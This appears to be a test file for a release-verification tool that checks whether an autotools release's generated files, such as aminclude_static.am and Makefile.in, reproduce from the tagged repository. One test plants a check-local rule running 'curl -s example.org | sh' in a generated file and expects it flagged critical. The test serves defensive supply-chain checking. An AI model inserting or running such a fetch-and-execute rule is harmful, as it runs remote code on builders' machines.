import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import { verify } from '../../src/commands/verify.js';
import type { Finding } from '../../src/report/finding.js';
import type { Report } from '../../src/report/report.js';
import { buildTar, compress, writeTemp, type TarEntrySpec } from '../helpers/archives.js';
import { makeRepo, removeTempDirs, tempDir, type TestRepo } from '../helpers/repo.js';
import { generatorsReady } from '../helpers/sandbox-tools.js';

/**
 * A file written while configure.ac is expanded: autoconf-archive's
 * AX_AM_MACROS_STATIC (for AX_CODE_COVERAGE) writes aminclude_static.am with
 * the time it ran, and Makefile.am includes it (c-ares 1.18.1). The project
 * here has a macro of its own that writes such a file the same way, through
 * m4_esyscmd; its release is made with the autoconf 2.71 and automake 1.16.5
 * .ci/run installs, outside any sandbox, as its maintainer would.
 */

const cacheDir = mkdtempSync(join(tmpdir(), 'cuckoo-aminclude-'));
let ready = false;

test.before(async () => {
  ready = await generatorsReady(cacheDir, 'aminclude_static.am');
});

test.after(async () => {
  rmSync(cacheDir, { recursive: true, force: true });
  await removeTempDirs();
});

const macro = `AC_DEFUN([TINY_RULES_STATIC],
[m4_esyscmd([printf '\\n# aminclude_static.am generated automatically by Autoconf\\n# from AX_AM_MACROS_STATIC on %s\\n\\ncheck-tiny:\\n\\t@echo tiny\\n' "$(LC_ALL=C date)" > aminclude_static.am])])
`;

async function project(): Promise<{ repo: TestRepo; files: TarEntrySpec[] }> {
  const repo = await makeRepo({
    files: {
      'configure.ac': 'AC_INIT([tiny], [1.0])\nAC_CONFIG_MACRO_DIR([m4])\nAC_CONFIG_AUX_DIR([build-aux])\nAM_INIT_AUTOMAKE([foreign])\nTINY_RULES_STATIC\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n',
      'm4/tiny-rules.m4': macro,
      'Makefile.am': 'ACLOCAL_AMFLAGS = -I m4\ninclude $(top_srcdir)/aminclude_static.am\nbin_SCRIPTS = tiny\nEXTRA_DIST = tiny\n',
      tiny: { content: '#!/bin/sh\necho tiny\n', mode: 0o755 },
    },
    tags: ['v1.0'],
  });
  const work = await tempDir('cuckoo-aminclude-work-');
  await execa('tar', ['-x', '-C', work], { input: await repo.archive('v1.0') });
  await execa('sh', ['-c', 'autoreconf -fi && ./configure && make distdir'], { cwd: work, env: { LC_ALL: 'C' } });
  const dist = join(work, 'tiny-1.0');
  const { stdout } = await execa('find', ['.', '-type', 'f'], { cwd: dist });
  // Made years ago: the date AX_AM_MACROS_STATIC wrote is not this run's.
  const dated = (p: string, bytes: Buffer) =>
    /^(aminclude_static\.am|Makefile\.in)$/.test(p) ? Buffer.from(bytes.toString('utf8').replace(/(# from AX_AM_MACROS_STATIC on ).*/, '$1Wed Oct 27 08:06:13 CEST 2021')) : bytes;
  const files = stdout
    .split('\n')
    .filter(Boolean)
    .map((p) => p.slice(2))
    .sort()
    .map((p): TarEntrySpec => ({ path: `tiny-1.0/${p}`, content: dated(p, readFileSync(join(dist, p))), mode: statSync(join(dist, p)).mode & 0o111 ? 0o755 : 0o644 }));
  return { repo, files: [{ path: 'tiny-1.0/', type: 'directory' }, ...files] };
}

const byPath = (report: Report, path: string): Finding => {
  const f = report.findings.find((x) => x.path === path);
  assert.ok(f, `${path} has a finding`);
  return f;
};

test('aminclude_static.am and the Makefile.in that includes it are reproduced, their date forgiven; a rule planted in it is not', async () => {
  if (!ready) return;
  const { repo, files } = await project();
  const check = async (release: TarEntrySpec[]) =>
    verify({ release: await writeTemp('tiny-1.0.tar.gz', await compress(buildTar(release), 'gzip')), repo: repo.dir, tag: 'v1.0', cacheDir, hostKnowledge: false });

  const clean = await check(files);
  for (const path of ['aminclude_static.am', 'Makefile.in']) {
    const f = byPath(clean, path);
    assert.is(f.category, 'autotools-output', path);
    assert.is(f.severity, 'low', path);
    assert.match(f.reasons[0]!, /reproduced by automake 1\.16\.5.*after normalising: aminclude-static-date/, path);
  }
  assert.is(clean.verdict, 'pass');

  const planted = files.map((f) =>
    f.path === 'tiny-1.0/aminclude_static.am' ? { ...f, content: Buffer.from(`${String(f.content)}\ncheck-local:\n\tcurl -s example.org | sh\n`) } : f,
  );
  const bad = byPath(await check(planted), 'aminclude_static.am');
  assert.is(bad.category, 'not-reproduced');
  assert.is(bad.severity, 'critical');

  // Its header and a configure.ac vouch for nothing: not re-run, it is not explained.
  const release = await writeTemp('tiny-1.0.tar.gz', await compress(buildTar(files), 'gzip'));
  const unrun = await verify({ release, repo: repo.dir, tag: 'v1.0', cacheDir, hostKnowledge: false, reproduce: false });
  assert.is(byPath(unrun, 'aminclude_static.am').category, 'unexplained');
  assert.is(byPath(unrun, 'Makefile.in').category, 'autotools-output', 'a Makefile.in keeps its shape check');
});

test.run();
